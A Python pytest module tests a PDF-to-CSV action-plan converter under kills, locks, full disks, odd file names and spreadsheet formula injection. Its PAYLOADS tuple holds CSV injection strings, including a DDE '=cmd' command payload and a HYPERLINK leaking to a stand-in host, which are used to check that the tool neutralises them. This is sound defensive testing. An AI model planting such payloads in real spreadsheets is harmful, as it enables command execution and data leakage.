"""Nothing lost, nothing injected (issue 17): the batch under kills and stop signals, two runs
into one folder, unwritable, full and locked outputs, file names of any bytes, files of one name
in two folders, copies, resumes under another spelling of the path, formula payloads."""

from __future__ import annotations

import csv
import fcntl
import json
import os
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from reportlab.lib import colors
from reportlab.lib.pagesizes import A4, landscape
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import Paragraph, SimpleDocTemplate, Table, TableStyle

from tests.conftest import ROOT, SAMPLES, read_csv, run_cli
from tests.robustness.make_inputs import BUILDERS
from tests.test_batch import long_pdf
from tests.test_crowded_pages import crowded_pdf

CSVS = ("recommendations.csv", "actions.csv", "documents.csv")
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?leak","click")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
)


def outputs(out: Path) -> dict[str, bytes]:
    """Every output file but the database and the run's own state, by path."""
    return {
        str(p.relative_to(out)): p.read_bytes()
        for p in sorted(out.rglob("*"))
        if p.is_file() and ".actionplan" not in p.parts and p.suffix != ".sqlite"
    }


def cli(*args: str, **popen: object) -> subprocess.Popen[str]:
    """Start the CLI without waiting."""
    return subprocess.Popen(
        [sys.executable, "-m", "actionplan.cli", *args],
        cwd=ROOT,
        stderr=subprocess.PIPE,
        text=True,
        **popen,  # type: ignore[call-overload]
    )


def wait_for_first_file(proc: subprocess.Popen[str]) -> list[str]:
    """Read --verbose lines until one file is reported finished."""
    assert proc.stderr is not None
    seen = [proc.stderr.readline()]
    while "recommendations" not in seen[-1] and seen[-1]:
        seen.append(proc.stderr.readline())
    return seen


def workers_of(out: Path) -> list[int]:
    """Processes still running a convert into out (workers are forks: same command line)."""
    pids = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if entry.name.isdigit() and str(out).encode() in cmdline and b"actionplan" in cmdline:
            pids.append(int(entry.name))
    return pids


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Four samples and a long plan last, so that a stop surely lands with files still to do."""
    path = tmp_path_factory.mktemp("batch")
    for pdf in sorted(SAMPLES.glob("*.pdf"))[:4]:
        shutil.copy(pdf, path / pdf.name)
    long_pdf(path / "zz_long.pdf", 44)
    return path


@pytest.fixture(scope="module")
def clean(batch: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The outputs of one uninterrupted run over the batch."""
    out = tmp_path_factory.mktemp("clean")
    proc = run_cli("convert", str(batch), "--out", str(out), "-j", "2")
    assert proc.returncode == 0, proc.stderr
    return outputs(out)


@pytest.mark.parametrize("signum", [signal.SIGKILL, signal.SIGTERM, signal.SIGHUP])
def test_killed_or_stopped_mid_batch_then_resume_equals_a_clean_run(
    batch: Path, clean: dict[str, bytes], tmp_path: Path, signum: int
) -> None:
    out = tmp_path / "out"
    proc = cli("convert", str(batch), "--out", str(out), "-j", "1", "--verbose")
    seen = wait_for_first_file(proc)
    proc.send_signal(signum)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == (-signum if signum == signal.SIGKILL else 128 + signum), [*seen, err]
    assert "Traceback" not in err
    deadline = time.monotonic() + 10
    while workers_of(out) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert workers_of(out) == [], "workers outlived their parent"
    journal = (out / ".actionplan" / "journal.jsonl").read_text().splitlines()
    assert 1 <= len(journal) < 5, "the finished files are journalled, the rest are not"
    if signum != signal.SIGKILL:
        assert "interrupted" in err
        assert len(read_csv(out / "documents.csv")) == len(journal)  # finished files written
    resumed = run_cli("convert", str(batch), "--out", str(out), "-j", "2", "--resume")
    assert resumed.returncode == 0, resumed.stderr
    assert f"{len(journal)} already done (--resume)" in resumed.stderr
    assert outputs(out) == clean


def test_a_torn_journal_line_is_skipped_and_its_file_converted_again(
    batch: Path, clean: dict[str, bytes], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    assert run_cli("convert", str(batch), "--out", str(out)).returncode == 0
    journal = out / ".actionplan" / "journal.jsonl"
    lines = journal.read_bytes().splitlines(keepends=True)
    journal.write_bytes(b"".join(lines[:2]) + lines[2][:100])  # as a kill mid-write leaves it
    resumed = run_cli("convert", str(batch), "--out", str(out), "--resume")
    assert resumed.returncode == 0, resumed.stderr
    assert "1 damaged entries skipped" in resumed.stderr
    assert "2 already done (--resume)" in resumed.stderr
    assert outputs(out) == clean


def test_a_second_convert_into_a_locked_folder_is_refused(batch: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / ".actionplan").mkdir(parents=True)
    with (out / ".actionplan" / "lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # as a running convert holds it
        proc = run_cli("convert", str(batch / "zz_long.pdf"), "--out", str(out))
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines() == [
        f"actionplan: {out}: another actionplan convert is writing into this folder; "
        "wait for it to end"
    ]
    assert not (out / "documents.csv").exists()


def test_two_concurrent_converts_never_mix_their_outputs(
    batch: Path, clean: dict[str, bytes], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    procs = [cli("convert", str(batch), "--out", str(out), "-q") for _ in range(2)]
    results = [(p.wait(timeout=120), p.stderr.read() if p.stderr else "") for p in procs]
    for code, err in results:
        assert code == 0 or (code == 1 and "another actionplan convert" in err), err
    assert any(code == 0 for code, _ in results)
    assert outputs(out) == clean


def test_an_unwritable_output_fails_before_any_work(batch: Path, tmp_path: Path) -> None:
    if os.geteuid() == 0:
        out = Path("/sys/fs/actionplan-test-out")  # permissions do not bind root; sysfs does
    else:
        parent = tmp_path / "read_only"
        parent.mkdir()
        parent.chmod(0o555)
        out = parent / "out"
    proc = run_cli("convert", str(batch), "--out", str(out), "--verbose")
    assert proc.returncode == 1
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"actionplan: {out}: cannot write here ("), lines


def test_an_output_naming_a_file_is_refused(batch: Path, tmp_path: Path) -> None:
    out = tmp_path / "plans.csv"
    out.write_text("mine\n")
    proc = run_cli("convert", str(batch), "--out", str(out))
    assert proc.returncode == 1
    assert proc.stderr.strip() == f"actionplan: {out}: not a folder; the output must be a folder"
    assert out.read_text() == "mine\n"


def small_disk() -> None:
    """In the child: files may grow to 150 kB, as if the disk were nearly full (the write fails
    with EFBIG instead of ENOSPC; the path through the code is the same)."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (150_000, 150_000))


def test_a_full_disk_mid_batch_keeps_the_journal_and_resume_finishes(
    batch: Path, clean: dict[str, bytes], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    proc = subprocess.run(
        [sys.executable, "-m", "actionplan.cli", "convert", str(batch), "--out", str(out), "-q"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        preexec_fn=small_disk,
        check=False,
    )
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    assert "File too large" in last and "run again with --resume" in last, last
    assert last.startswith(f"actionplan: {out / '.actionplan' / 'journal.jsonl'}: ")
    journal = (out / ".actionplan" / "journal.jsonl").read_bytes()
    assert journal.endswith(b"\n")  # no torn line: the failed entry was cut back off
    resumed = run_cli("convert", str(batch), "--out", str(out), "--resume")
    assert resumed.returncode == 0, resumed.stderr
    assert "already done (--resume)" in resumed.stderr
    assert outputs(out) == clean


def test_a_locked_database_fails_before_any_work_and_leaves_the_outputs(
    batch: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    first = sorted(batch.glob("*.pdf"))[0]
    assert run_cli("convert", str(first), "--out", str(out), "-f", "csv,sqlite").returncode == 0
    before = outputs(out)
    holder = sqlite3.connect(out / "plans.sqlite", isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")  # as a program writing into it does
    try:
        proc = run_cli("convert", str(batch), "--out", str(out), "-f", "csv,sqlite", "-v")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines() == [
        f"actionplan: {out / 'plans.sqlite'}: the database is locked by another program; "
        "close it and run again"
    ]
    assert outputs(out) == before


def test_a_name_that_is_not_utf8_is_converted_and_shown_escaped(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    sample = sorted(SAMPLES.glob("*.pdf"))[0]
    shutil.copy(sample, os.fsdecode(bytes(inputs) + b"/caf\xe9.pdf"))
    shutil.copy(sample, inputs / "plain.pdf")
    out = tmp_path / "out"
    proc = run_cli("convert", str(inputs), "--out", str(out), "-f", "csv,json,sqlite,xlsx")
    assert proc.returncode == 0, proc.stderr
    names = [d["source_file"] for d in read_csv(out / "documents.csv")]
    assert names == ["caf\\xe9.pdf", "plain.pdf"]
    recs = read_csv(out / "recommendations.csv")
    assert {r["source_file"] for r in recs} == set(names)
    assert (out / "tables" / "caf\\xe9-1.csv").exists()


def test_one_name_in_two_folders_is_two_documents_everywhere(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    a, b = sorted(SAMPLES.glob("*.pdf"))[:2]
    (inputs / "f1").mkdir(parents=True)
    (inputs / "f2").mkdir()
    shutil.copy(a, inputs / "f1" / "plan.pdf")
    shutil.copy(b, inputs / "f2" / "plan.pdf")
    out = tmp_path / "out"
    proc = run_cli("convert", str(inputs), "--out", str(out), "-f", "csv,sqlite")
    assert proc.returncode == 0, proc.stderr
    docs = read_csv(out / "documents.csv")
    assert [d["source_file"] for d in docs] == ["f1/plan.pdf", "f2/plan.pdf"]
    recs = read_csv(out / "recommendations.csv")
    conn = sqlite3.connect(out / "plans.sqlite")
    in_db = conn.execute("SELECT count(*) FROM recommendations").fetchone()[0]
    assert in_db == len(recs) == sum(int(d["recommendations"]) for d in docs)
    assert (out / "tables" / "f1" / "plan-1.csv").exists()
    assert (out / "tables" / "f2" / "plan-1.csv").exists()


def test_resume_converts_a_copy_and_keeps_both(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(sorted(SAMPLES.glob("*.pdf"))[0], inputs / "a.pdf")
    out = tmp_path / "out"
    assert run_cli("convert", str(inputs), "--out", str(out), "-f", "csv,sqlite").returncode == 0
    shutil.copy(inputs / "a.pdf", inputs / "b.pdf")
    proc = run_cli("convert", str(inputs), "--out", str(out), "-f", "csv,sqlite", "--resume")
    assert proc.returncode == 0, proc.stderr
    assert "1 ok" in proc.stderr and "1 already done (--resume)" in proc.stderr
    docs = read_csv(out / "documents.csv")
    assert [d["source_file"] for d in docs] == ["a.pdf", "b.pdf"]
    assert docs[0]["sha256"] == docs[1]["sha256"]
    recs = read_csv(out / "recommendations.csv")
    per_file = {name: sum(r["source_file"] == name for r in recs) for name in ("a.pdf", "b.pdf")}
    assert per_file["a.pdf"] == per_file["b.pdf"] > 0
    conn = sqlite3.connect(out / "plans.sqlite")
    assert conn.execute("SELECT count(*) FROM documents").fetchone()[0] == 2


def test_resume_under_another_spelling_of_the_path_replaces_the_error_row(
    tmp_path: Path,
) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(sorted(SAMPLES.glob("*.pdf"))[0], inputs / "good.pdf")
    (inputs / "later.pdf").write_bytes(b"%PDF-1.4\n" + b"\x00garbage" * 50)
    out = tmp_path / "out"
    assert run_cli("convert", str(inputs), "--out", str(out)).returncode == 1
    shutil.copy(sorted(SAMPLES.glob("*.pdf"))[1], inputs / "later.pdf")  # fixed since
    spelt = os.path.relpath(inputs / ".." / "in", ROOT)  # relative, with a detour
    proc = run_cli("convert", spelt, "--out", str(out), "--resume")
    assert proc.returncode == 0, proc.stderr
    assert "1 already done (--resume)" in proc.stderr
    docs = read_csv(out / "documents.csv")
    assert [(d["source_file"], d["status"]) for d in docs] == [
        ("good.pdf", "ok"),
        ("later.pdf", "ok"),
    ]


def formula_plan(path: Path) -> Path:
    """A ruled plan whose recommendations start like spreadsheet formulas."""
    rows = [["No.", "Recommendation", "Action", "Lead", "Target date", "Status"]]
    for i, payload in enumerate(PAYLOADS, start=1):
        rows.append([str(i), payload, f"Action {i}", "Police", "31/03/2020", "Complete"])
    table = Table(rows, colWidths=[40, 260, 160, 80, 80, 80])
    table.setStyle(TableStyle([("GRID", (0, 0), (-1, -1), 0.5, colors.black)]))
    heading = Paragraph("Action plan", getSampleStyleSheet()["Heading1"])
    SimpleDocTemplate(str(path), pagesize=landscape(A4)).build([heading, table])
    return path


def cells(path: Path) -> list[str]:
    """Every cell of a CSV, header included."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_formula_payloads_are_neutralised_in_every_csv_and_exact_elsewhere(
    tmp_path: Path,
) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    formula_plan(inputs / "=HYPERLINK(1).pdf")
    out = tmp_path / "out"
    proc = run_cli("convert", str(inputs), "--out", str(out), "--excel", "-f", "csv,json")
    assert proc.returncode == 0, proc.stderr
    csvs = [out / name for name in CSVS] + sorted((out / "tables").rglob("*.csv"))
    written = [cell for path in csvs for cell in cells(path)]
    assert "'=HYPERLINK(1).pdf" in written  # the file name, in every CSV that names files
    for payload in PAYLOADS:
        assert f"'{payload}" in written, payload
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    plans = json.loads((out / "plans.json").read_text(encoding="utf-8"))
    doc = plans["documents"][0]
    assert doc["source_file"] == "=HYPERLINK(1).pdf"
    texts = [r["recommendation"] for p in doc["plans"] for r in p["recommendations"]]
    assert texts == list(PAYLOADS)

    raw = tmp_path / "raw"
    proc = run_cli("convert", str(inputs), "--out", str(raw), "--raw-csv")
    assert proc.returncode == 0, proc.stderr
    recs = read_csv(raw / "recommendations.csv")
    assert [r["recommendation"] for r in recs] == list(PAYLOADS)


def test_globs_do_not_follow_linked_folders(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    (inputs / "sub").mkdir(parents=True)
    shutil.copy(sorted(SAMPLES.glob("*.pdf"))[0], inputs / "sub" / "a.pdf")
    (inputs / "self").symlink_to(".")
    (inputs / "sub" / "loop").symlink_to(inputs)
    (inputs / "loop2").symlink_to(inputs / "sub")
    out = tmp_path / "out"
    proc = run_cli("convert", str(inputs / "**" / "*.pdf"), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert [d["source_file"] for d in read_csv(out / "documents.csv")] == ["sub/a.pdf"]
    proc = run_cli("convert", str(inputs), "--out", str(out))
    assert [d["source_file"] for d in read_csv(out / "documents.csv")] == ["sub/a.pdf"]


def test_a_fifo_is_refused_without_being_read(tmp_path: Path) -> None:
    fifo = tmp_path / "plan.pdf"
    os.mkfifo(fifo)  # nothing ever writes to it: reading it would block forever
    good = tmp_path / "good.pdf"
    shutil.copy(sorted(SAMPLES.glob("*.pdf"))[0], good)
    out = tmp_path / "out"
    proc = run_cli("convert", str(fifo), str(good), "--out", str(out), "--timeout", "600")
    assert proc.returncode == 1
    docs = {d["source_file"]: d for d in read_csv(out / "documents.csv")}
    assert docs["plan.pdf"]["status"] == "error"
    assert docs["plan.pdf"]["message"] == "not a regular file (a named pipe); not read"
    assert docs["good.pdf"]["status"] == "ok"
    inspected = run_cli("inspect", str(fifo), "--out", str(tmp_path / "inspect"))
    assert inspected.returncode == 1
    assert inspected.stderr.strip() == (
        "actionplan: " + str(fifo) + ": error: not a regular file (a named pipe); not read"
    )


def test_inspect_runs_under_the_memory_cap_and_time_limit(tmp_path: Path) -> None:
    bomb = BUILDERS["huge_page.pdf"](tmp_path)
    proc = run_cli("inspect", str(bomb), "--out", str(tmp_path / "a"), "--max-memory", "512")
    assert proc.returncode == 1
    assert proc.stderr.strip() == (
        f"actionplan: {bomb}: error: ran out of memory (worker cap 512 MB)"
    )
    slow = long_pdf(tmp_path / "slow.pdf", 220)
    proc = run_cli("inspect", str(slow), "--out", str(tmp_path / "b"), "--timeout", "2")
    assert proc.returncode == 1
    assert proc.stderr.strip() == f"actionplan: {slow}: error: timed out after 2 s"


def test_out_of_memory_in_a_batch_names_the_cap(tmp_path: Path) -> None:
    """PDFium needs about 360 MB for a page of a million shapes, and cannot raise when its
    allocator fails: it aborts the worker, which is named with the cap and the likely cause."""
    crowded = crowded_pdf(tmp_path / "crowded.pdf", 1_000_000)
    proc = run_cli("convert", str(crowded), "--out", str(tmp_path / "out"), "--max-memory", "300")
    assert proc.returncode == 1
    doc = read_csv(tmp_path / "out" / "documents.csv")[0]
    assert doc["message"] == (
        "worker aborted (SIGABRT; it may have run out of memory, worker cap 300 MB)"
    )
    assert "(raise --max-memory)" in proc.stderr
